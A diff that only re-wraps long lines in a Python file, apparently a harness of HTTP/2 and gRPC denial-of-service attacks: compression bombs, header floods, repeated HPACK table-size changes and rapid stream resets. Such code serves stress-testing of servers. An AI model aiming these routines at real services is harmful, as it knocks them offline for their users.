@@ -128,7 +128,9 @@ def odd(start: int = 1) -> Iterator[int]:
     return iter(range(start, 1 << 31, 2))
 
 
-def bombs(method: str, encoding: str, bomb: bytes, *, calls: int = 1000, end: bool = True) -> Attack:
+def bombs(
+    method: str, encoding: str, bomb: bytes, *, calls: int = 1000, end: bool = True
+) -> Attack:
     name = field("grpc-encoding", encoding)
     body = message(bomb, compressed=True)
 
@@ -213,7 +215,9 @@ def metadata_of_calls_that_wait(address: Address, stop: threading.Event) -> int:
             for stream, number in zip(odd(3), range(8190)):
                 # Another value each time, so that no list is like the one before.
                 other = field("n", str(number))
-                batch.append(frame(HEADERS, END_HEADERS, stream, block("/a/Never", b"\xbe" * 4, other)))
+                batch.append(
+                    frame(HEADERS, END_HEADERS, stream, block("/a/Never", b"\xbe" * 4, other))
+                )
                 if len(batch) == 500:
                     yield b"".join(batch)
                     batch.clear()
@@ -308,7 +312,9 @@ def table_sizes(address: Address, stop: threading.Event) -> int:
         def pieces() -> Iterator[bytes]:
             for stream in odd():
                 changes = (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) * 1000
-                yield frame(HEADERS, END_HEADERS | END_STREAM, stream, changes + block("/no/method"))
+                yield frame(
+                    HEADERS, END_HEADERS | END_STREAM, stream, changes + block("/no/method")
+                )
 
         return settings(), pieces()
 
@@ -342,7 +348,8 @@ def rapid_resets(address: Address, stop: threading.Event) -> int:
             streams = odd()
             while True:
                 yield b"".join(
-                    request(stream, "/a/Echo", end=True) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
+                    request(stream, "/a/Echo", end=True)
+                    + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                     for stream, _ in zip(streams, range(200))
                 )
 
